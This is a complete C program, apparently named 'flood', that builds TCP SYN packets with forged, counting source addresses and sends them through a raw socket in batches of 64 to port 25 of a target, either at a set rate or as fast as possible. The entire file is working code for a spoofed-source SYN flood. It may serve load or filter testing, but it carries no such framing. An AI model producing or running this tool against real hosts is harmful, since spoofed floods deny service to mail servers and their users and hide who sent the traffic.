/* A sender of SYNs with sources that are made up, at a rate or as fast as it can: a raw socket, 64 packets a call.
 *
 *     flood COUNT RATE DESTINATION FIRST_SOURCE STEP SOURCES [WITHOUT]
 *
 * RATE is packets/s, 0 for as fast as possible. Sources count up from FIRST_SOURCE by STEP, and after SOURCES of them
 * begin anew; every WITHOUT-th is left out (100: 99 of 100 are used). Prints how many were sent and the seconds that
 * took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct packet { struct iphdr ip; struct tcphdr tcp; };

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double) time.tv_sec + (double) time.tv_nsec / 1e9;
}

static uint32_t sum(const void *data, size_t length, uint32_t sum)
{
    const uint16_t *words = data;
    for (size_t i = 0; i < length / 2; i++)
        sum += words[i];
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~sum;
}

static void fill(struct packet *packet, uint32_t source, uint32_t destination, uint32_t number)
{
    struct { uint32_t source, destination; uint16_t protocol, length; } pseudo = {
        htonl(source), destination, htons(IPPROTO_TCP), htons(sizeof packet->tcp) };
    memset(packet, 0, sizeof *packet);
    packet->ip.version = 4;
    packet->ip.ihl = 5;
    packet->ip.tot_len = htons(sizeof *packet);
    packet->ip.ttl = 64;
    packet->ip.protocol = IPPROTO_TCP;
    packet->ip.saddr = pseudo.source;
    packet->ip.daddr = destination;
    packet->ip.check = fold(sum(&packet->ip, sizeof packet->ip, 0));
    packet->tcp.source = htons((uint16_t) (1024 + number % 60000));
    packet->tcp.dest = htons(25);
    packet->tcp.seq = htonl(number);
    packet->tcp.doff = 5;
    packet->tcp.syn = 1;
    packet->tcp.window = htons(64240);
    packet->tcp.check = fold(sum(&packet->tcp, sizeof packet->tcp, sum(&pseudo, sizeof pseudo, 0)));
}

int main(int argc, char **argv)
{
    struct packet packets[BATCH];
    struct sockaddr_in to[BATCH];
    struct iovec vectors[BATCH];
    struct mmsghdr messages[BATCH];
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), bytes = 64 << 20;
    if ((argc != 7 && argc != 8) || fd < 0) {
        perror("flood");
        return 1;
    }
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &bytes, sizeof bytes);
    unsigned long count = strtoul(argv[1], NULL, 10), sent = 0;
    double rate = strtod(argv[2], NULL), start = now();
    uint32_t destination = inet_addr(argv[3]), source = ntohl(inet_addr(argv[4]));
    uint32_t step = (uint32_t) strtoul(argv[5], NULL, 10), sources = (uint32_t) strtoul(argv[6], NULL, 10);
    uint32_t kept = argc == 8 ? (uint32_t) strtoul(argv[7], NULL, 10) - 1 : 0;
    memset(messages, 0, sizeof messages);
    while (sent < count) {
        int batch = count - sent < BATCH ? (int) (count - sent) : BATCH, done;
        if (rate > 0) {
            double behind = (double) sent / rate - (now() - start);
            if (behind > 0) {
                struct timespec pause = { 0, (long) (behind * 1e9) };
                nanosleep(&pause, NULL);
            }
            if (batch > 16)
                batch = 16;     /* small bursts: a rate is not a burst a millisecond */
        }
        for (int i = 0; i < batch; i++) {
            uint32_t number = (uint32_t) (sent + (unsigned long) i), at = number % sources;
            if (kept)
                at += at / kept;
            fill(&packets[i], source + at * step, destination, number);
            to[i] = (struct sockaddr_in) { .sin_family = AF_INET, .sin_addr.s_addr = destination };
            vectors[i] = (struct iovec) { &packets[i], sizeof packets[i] };
            messages[i].msg_hdr = (struct msghdr) {
                .msg_name = &to[i], .msg_namelen = sizeof to[i], .msg_iov = &vectors[i], .msg_iovlen = 1 };
        }
        done = sendmmsg(fd, messages, (unsigned) batch, 0);
        if (done < 0) {
            if (errno == ENOBUFS || errno == EINTR)
                continue;
            perror("sendmmsg");
            return 1;
        }
        sent += (unsigned long) done;
    }
    printf("%lu %.6f\n", sent, now() - start);
    return 0;
}
